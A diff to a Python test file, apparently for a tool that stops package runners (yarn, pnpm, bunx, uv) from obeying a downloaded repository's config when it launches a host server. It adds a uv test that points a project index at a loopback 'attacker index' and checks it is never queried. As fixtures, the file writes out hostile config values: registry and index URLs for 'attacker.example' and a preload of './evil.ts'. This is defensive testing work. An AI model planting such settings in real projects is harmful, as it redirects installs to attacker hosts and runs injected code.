@@ -90,12 +90,16 @@ done
 echo "NAME ran $*" >> LOG
 """
 RUNNERS = {"yarn": ".yarnrc.yml .yarnrc .npmrc", "pnpm": ".npmrc pnpm-workspace.yaml",
-           "bunx": "bunfig.toml .npmrc node_modules/.bin/rt52c-notes-server"}
+           "bunx": "bunfig.toml .npmrc node_modules/.bin/rt52c-notes-server",
+           "uv": "uv.toml pyproject.toml .venv .python-version"}
 SETTINGS = {"yarn": (".yarnrc.yml", "yarnPath: ./tools/yarn.cjs\nnpmRegistryServer: http://attacker.example\n"),
             "pnpm": (".npmrc", "registry=http://attacker.example/\n"),
-            "bunx": ("bunfig.toml", 'preload = ["./evil.ts"]\n[install]\nregistry = "http://attacker.example/"\n')}
+            "bunx": ("bunfig.toml", 'preload = ["./evil.ts"]\n[install]\nregistry = "http://attacker.example/"\n'),
+            "uv": ("pyproject.toml", '[project]\nname = "x"\nversion = "0"\n[tool.uv]\n'
+                                     'index-url = "http://attacker.example/simple"\n')}
 COMMANDS = {"yarn": ["yarn", "dlx", "rt52c-notes-server"], "pnpm": ["pnpm", "dlx", "rt52c-notes-server"],
-            "bunx": ["bunx", "rt52c-notes-server"]}
+            "bunx": ["bunx", "rt52c-notes-server"],
+            "uv": ["uv", "run", "--with", "rt52c-notes-server", "rt52c-notes-server"]}
 for _name in RUNNERS:
     THROUGH_ON_MAIN[f"host server `{' '.join(COMMANDS[_name])}` read the repo's {SETTINGS[_name][0]}"] = True
     THROUGH_ON_MAIN[f"host server `sh -c '{' '.join(COMMANDS[_name])}'` read the repo's {SETTINGS[_name][0]}"] = True
@@ -323,3 +327,49 @@ def test_twin_ordinary_text_and_version_bumps_still_come_back():
                       b'[project]\nname = "x"\ndependencies = ["a", "b>=2"]\n') is None
     assert runs_later("environment.yml", b"name: x\ndependencies:\n  - python=3.12\n",
                       b"name: x\ndependencies:\n  - python=3.12\n  - numpy\n") is None
+
+
+THROUGH_ON_MAIN["host server `uv run --with PKG PKG` (real uv): the repo's [tool.uv] index-url was asked"] = True
+
+
+@pytest.mark.skipif(shutil.which("uv") is None, reason="needs uv (checked with uv 0.13.9 on PATH)")
+def test_a_uv_run_host_server_never_asks_the_folders_index(tmp_path, monkeypatch):
+    """``uv run --with PKG PKG`` (a host server's form in many READMEs), started in a downloaded repository: uv took
+    the repository for its project, asked the index its ``[tool.uv]`` names (a loopback "attacker index" got
+    ``/simple/rt52c-notes-server/``), and would build the project with its backend and write a ``uv.lock``."""
+    import http.server
+    import threading
+
+    asked: list[str] = []
+
+    class Index(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            asked.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "pyproject.toml").write_text(f'[project]\nname = "x"\nversion = "0"\n[tool.uv]\n'
+                                         f'index-url = "http://127.0.0.1:{attacker.server_port}/simple"\n')
+    try:
+        _start_host(tmp_path, monkeypatch, repo, ["uv", "run", "--with", "rt52c-notes-server", "rt52c-notes-server"],
+                    env=[f"UV_CACHE_DIR={tmp_path / 'uvcache'}"])
+    finally:
+        attacker.shutdown()
+        attacker.server_close()
+    assert asked == [] and not (repo / "uv.lock").exists()
+
+
+def test_twin_uv_of_the_persons_own_server_folder_and_uvx_run(tmp_path):
+    from macrohard.mcp import runner_shim
+
+    assert runner_shim.uv_folder(["--directory", "/home/me/servers/x", "run", "server.py"], "/repo") is None
+    assert runner_shim.uv_folder(["tool", "run", "x"], "/repo") is None
+    assert runner_shim.uv_folder(["run", "--with", "x", "x"], "/repo") == "/repo"
+    assert runner_shim.uv_folder(["--directory", "sub", "run", "x"], "/repo") == "/repo/sub"
